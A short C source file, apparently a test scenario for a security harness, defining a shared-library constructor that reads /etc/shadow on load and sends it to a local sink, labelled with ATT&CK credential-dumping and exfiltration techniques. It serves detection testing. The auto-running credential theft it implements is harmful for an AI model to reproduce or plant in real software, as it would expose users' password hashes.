/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_cred_exfil.so: a constructor that steals the password hashes.
 * Reads /etc/shadow and sends it to the runner's sink on 127.0.0.1, which
 * keeps only its length and SHA-256 (never the content).
 * ATT&CK: T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow,
 * exfiltrated over the C2 channel (T1041).
 * Proof: NAME.ran first; NAME.done once the sink acknowledged every byte. */
#include "scn.h"

__attribute__((constructor)) static void exfil_init(void)
{
	char buf[65536];
	ssize_t n;
	int fd;

	scn_mark("ran");
	fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n > 0 && !scn_sink_send(buf, n))
		scn_mark("done");
}
